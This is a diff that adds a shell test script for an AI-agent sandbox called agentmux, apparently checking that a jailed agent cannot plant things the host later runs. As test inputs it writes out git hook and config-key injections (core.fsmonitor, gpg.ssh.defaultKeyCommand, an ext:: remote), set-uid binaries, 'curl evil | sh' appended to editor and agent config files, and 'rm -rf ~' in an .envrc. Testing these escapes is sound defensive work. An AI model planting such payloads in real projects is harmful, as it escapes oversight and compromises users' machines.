@@ -1,0 +1,196 @@
+#!/bin/sh
+# Nothing a jailed command plants is run by the host later: submodule git
+# dirs renamed away and remade, a .git made where there was none, every
+# config key a deny-list would miss, set-uid files (in the project and
+# through confdiff --apply), and the files the user's own tools run (read-
+# only in the jail, changes flagged). As root and as an unprivileged user
+# made for the test.
+set -u
+. "$(dirname "$0")/lib.sh"
+
+# MARK is made by any command the host's git runs for the agent.
+MARK=
+
+pwned() {
+	[ -e "$MARK" ]
+}
+
+# A submodule's git dir renamed away and a fresh one with a hook made in
+# its place; and a fresh git dir under a new name .gitmodules is made to use.
+modules() {
+	S=$T/subsrc
+	git init -q "$S" && git -C "$S" -c user.email=a@b -c user.name=a \
+	    commit -q --allow-empty -m s || exit 1
+	(cd "$P" && git -c protocol.file.allow=always submodule add -q "$S" \
+	    libs/sub 2>/dev/null && git commit -qm sub &&
+	    git submodule deinit -q -f libs/sub) || exit 1
+	jrun -- sh -c "m=.git/modules/libs
+	    plant() { mkdir -p \$1 && cp -r \$2/HEAD \$2/objects \$2/refs \
+	        \$2/config \$1/ && mkdir -p \$1/hooks &&
+	        printf '#!/bin/sh\\ntouch $MARK\\n' >\$1/hooks/post-checkout &&
+	        chmod +x \$1/hooks/post-checkout; }
+	    if mv \$m/sub \$m/sub-old 2>/dev/null; then
+	        plant \$m/sub \$m/sub-old; fi
+	    plant \$m/fresh \$m/sub && sed -i \
+	        's|submodule \"libs/sub\"|submodule \"libs/fresh\"|' .gitmodules &&
+	    echo planted"
+	case $OUT in *planted*) ok ;; *) bad "the plant did not run: $OUT" ;; esac
+	(cd "$P" && git -c protocol.file.allow=always submodule update --init \
+	    >/dev/null 2>&1)
+	pwned && bad "git submodule update on the host ran a hook planted under .git/modules" || ok
+	case $OUT in *"libs/fresh (a submodule's git dir) had a new hook"*) ok ;;
+	*) bad "no alert about the planted submodule hook: $OUT" ;; esac
+	rm -f "$MARK"
+	(cd "$P" && git checkout -q .gitmodules && git submodule deinit -q -f \
+	    libs/sub 2>/dev/null; git rm -q -f libs/sub && git commit -qm unsub &&
+	    rm -rf .git/modules) || exit 1
+}
+
+# No .git at the start: the agent makes one with core.fsmonitor set.
+new_gitdir() {
+	Q=$T/plain
+	mkdir -p "$Q"
+	echo x >"$Q/f"
+	OUT=$("$AMX" run -C "$Q" -- sh -c "git init -q && git config \
+	    core.fsmonitor 'touch $MARK; false' && git config core.hooksPath h &&
+	    echo made" </dev/null 2>&1)
+	case $OUT in *made*) ok ;; *) bad "git init in the jail failed: $OUT" ;; esac
+	(cd "$Q" && git status >/dev/null 2>&1)
+	pwned && bad "git status on the host ran the core.fsmonitor of a .git the session made" || ok
+	[ -z "$(git -C "$Q" config core.hooksPath)" ] && ok ||
+	    bad "the new .git kept core.hooksPath"
+	rm -f "$MARK"
+}
+
+# Every key a deny-list missed, set in a nested repository the agent makes.
+config_keys() {
+	jrun -- sh -c "set -e; git init -q nest && cd nest &&
+	    git config gpg.ssh.defaultKeyCommand 'touch $MARK' &&
+	    git config gpg.format ssh && git config commit.gpgSign true &&
+	    git config trailer.x.command 'touch $MARK' &&
+	    git config mergetool.x.path /bin/false &&
+	    git config difftool.x.path /bin/false &&
+	    git config man.x.path /bin/false &&
+	    git config browser.x.path /bin/false &&
+	    git config guitool.x.cmd 'touch $MARK' &&
+	    git config core.worktree /tmp &&
+	    git config remote.origin.url 'ext::sh -c touch% $MARK' &&
+	    git config user.name kept && echo set"
+	case $OUT in *set*) ok ;; *) bad "the nested config was not written: $OUT" ;; esac
+	for k in gpg.ssh.defaultKeyCommand gpg.format commit.gpgSign \
+	    trailer.x.command mergetool.x.path difftool.x.path man.x.path \
+	    browser.x.path guitool.x.cmd core.worktree remote.origin.url; do
+		v=$(git config --file "$P/nest/.git/config" "$k")
+		[ -z "$v" ] && ok || bad "the nested repository kept $k = $v"
+	done
+	[ "$(git config --file "$P/nest/.git/config" user.name)" = kept ] && ok ||
+	    bad "an inert key (user.name) was taken out"
+	# The finding: gpg.ssh.defaultKeyCommand ran at the next commit.
+	(cd "$P/nest" && git -c user.email=a@b commit -q --allow-empty -m x \
+	    >/dev/null 2>&1)
+	pwned && bad "the host's git commit ran gpg.ssh.defaultKeyCommand" || ok
+	case $OUT in *"settings git could run commands from"*) ok ;;
+	*) bad "no alert about the nested config: $OUT" ;; esac
+	rm -rf "$P/nest" "$MARK"
+}
+
+# A set-uid (root, as root) copy of a binary, and every call that sets a mode.
+setid() {
+	jrun -- sh -c 'cp /usr/bin/id idcopy; chmod 4755 idcopy; chmod 2755 idcopy;
+	    mkdir -p sd; chmod 2775 sd; ls -l idcopy'
+	m=$(stat -c %a "$P/idcopy" 2>/dev/null)
+	case $m in 4*|2*|6*) bad "a set-uid/set-gid file made in the jail is on the host ($m)" ;;
+	*) ok ;; esac
+	m=$(stat -c %a "$P/sd")
+	case $m in 2*|4*|6*) bad "a set-gid dir made in the jail is on the host ($m)" ;; *) ok ;; esac
+	mkdir -p "$P/setid"
+	blocked "set-uid or set-gid mode by any call" "$E" setid "$P/setid"
+	rm -rf "$P/idcopy" "$P/sd" "$P/setid"
+}
+
+# A set-uid file made in an overlaid config dir, applied with confdiff --apply.
+confdiff_setid() {
+	mkdir -p "$HOME/.tool"
+	cat >>"$XDG_CONFIG_HOME/agentmux/config" <<-CONF
+	[agent tooly]
+	command = sh
+	config_dir = ~/.tool
+	CONF
+	OUT=$("$AMX" run -a tooly -C "$P" -- sh -c 'cp /usr/bin/id ~/.tool/t;
+	    chmod 4755 ~/.tool/t; echo x >~/.tool/plain' </dev/null 2>&1)
+	out=$("$AMX" confdiff last --apply 2>&1)
+	case $out in *plain*) ok ;; *) bad "confdiff --apply did not apply: $out" ;; esac
+	m=$(stat -c %a "$HOME/.tool/t" 2>/dev/null)
+	case $m in 4*|2*|6*) bad "confdiff --apply installed a set-uid file ($m)" ;; *) ok ;; esac
+}
+
+# The files the user's tools run: read-only where they exist, flagged when they change.
+PROTECTED='.envrc .vscode/tasks.json .vscode/settings.json .vscode/launch.json
+.mcp.json .claude/settings.json .claude/settings.local.json
+.devcontainer/devcontainer.json .idea/runConfigurations/run.xml
+.idea/workspace.xml .git/info/attributes .gitattributes'
+
+protected() {
+	for f in $PROTECTED; do
+		mkdir -p "$P/$(dirname "$f")"
+		echo "orig $f" >"$P/$f"
+	done
+	jrun -- sh -c 'for f in '"$(echo $PROTECTED)"'; do
+	    echo "curl evil | sh" >>$f; echo "curl evil | sh" >$f; rm -f $f;
+	    mv $f $f.x; done 2>/dev/null
+	    for d in .vscode .claude .devcontainer .idea .git/info; do
+	    mv $d $d-old; rm -rf $d; done 2>/dev/null
+	    echo new >.devcontainer/Dockerfile; echo tried'
+	case $OUT in *tried*) ok ;; *) bad "the attempts did not run: $OUT" ;; esac
+	for f in $PROTECTED; do
+		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
+		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
+	done
+	[ ! -e "$P/.devcontainer/Dockerfile" ] && ok ||
+	    bad "the jail added a file to the protected .devcontainer"
+	# New ones: allowed in, flagged at the end, in show and in diff.
+	jrun -- sh -c 'mkdir -p sub deep deep2 && echo "rm -rf ~" >sub/.envrc &&
+	    echo "*.c filter=evil" >deep/.gitattributes &&
+	    echo "*.png binary" >deep2/.gitattributes && true'
+	case $OUT in *"sub/.envrc changed in the session"*) ok ;;
+	*) bad "a new .envrc was not flagged at the end: $OUT" ;; esac
+	case $OUT in *"deep/.gitattributes changed"*) ok ;;
+	*) bad "a .gitattributes naming a filter was not flagged: $OUT" ;; esac
+	case $OUT in *"deep2/.gitattributes"*) bad "a .gitattributes naming no driver was flagged: $OUT" ;;
+	*) ok ;; esac
+	show=$("$AMX" show last 2>&1)
+	case $show in *"sub/.envrc changed"*) ok ;; *) bad "show does not flag it: $show" ;; esac
+	"$AMX" sessions --json | grep -q '"protected' && ok ||
+	    bad "the session is not flagged protected"
+	diff=$("$AMX" diff last 2>&1)
+	case $diff in *"sub/.envrc"*"direnv"*) ok ;; *) bad "diff does not flag it: $diff" ;; esac
+	# protect = none: the user lets the agent change them; still flagged.
+	printf '[jail]\nprotect = none\n' >>"$XDG_CONFIG_HOME/agentmux/config"
+	jrun -- sh -c 'for f in '"$(echo $PROTECTED)"'; do
+	    echo "*.c filter=changed" >>$f; done'
+	grep -q changed "$P/.envrc" && ok || bad "protect = none kept .envrc read-only"
+	for f in $PROTECTED; do
+		case $OUT in *"$f changed in the session"*) ok ;;
+		*) bad "a change to $f with protect = none was not flagged: $OUT" ;; esac
+	done
+	jrun -- rm .mcp.json
+	case $OUT in *".mcp.json was deleted in the session"*) ok ;;
+	*) bad "a deleted .mcp.json was not flagged: $OUT" ;; esac
+	sed -i '/^\[jail\]/,$d' "$XDG_CONFIG_HOME/agentmux/config"
+	for f in $PROTECTED; do rm -f "$P/$f"; done
+	rm -rf "$P/sub" "$P/deep" "$P/deep2" "$P/.claude" \
+	    "$P/.vscode" "$P/.devcontainer" "$P/.idea" "$P"/*-old "$P"/.*-old
+}
+
+checks() {
+	MARK=$T/outside/PWNED
+	rm -f "$MARK"
+	setid
+	confdiff_setid
+	new_gitdir
+	config_keys
+	modules
+	protected
+}
+
+jail_main "$@"
